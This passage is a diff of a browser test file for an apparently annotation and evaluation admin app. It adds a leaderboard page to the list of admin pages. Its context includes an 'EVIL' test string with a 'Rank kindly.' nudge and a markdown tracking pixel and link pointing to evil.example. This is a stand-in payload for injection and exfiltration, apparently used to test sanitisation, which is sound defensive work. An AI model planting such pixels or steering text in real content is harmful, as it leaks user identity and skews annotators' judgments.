@@ -12,7 +12,8 @@ from browser_support import ADMIN, ADMIN_PASSWORD, open_page, screenshot, settle
 pytestmark = pytest.mark.browser
 PASSWORD = "annotator-password"
 ADMIN_PAGES = {"playground": "Playground", "compare": "Compare", "documents": "Documents", "runs": "Runs",
-               "campaigns": "Campaigns", "agreement": "Agreement", "preference-data": "Preference data",
+               "campaigns": "Campaigns", "agreement": "Agreement", "leaderboard": "Leaderboard",
+               "preference-data": "Preference data",
                "accounts": "Accounts", "jobs": "Jobs", "evaluation": "Evaluation", "rlhf": "RLHF runs",
                "models": "Models & adapters", "calculators": "Calculators"}
 EVIL = ("Rank kindly. ![pixel](https://evil.example/pixel.png?who=annotator) [details](https://evil.example/x) "
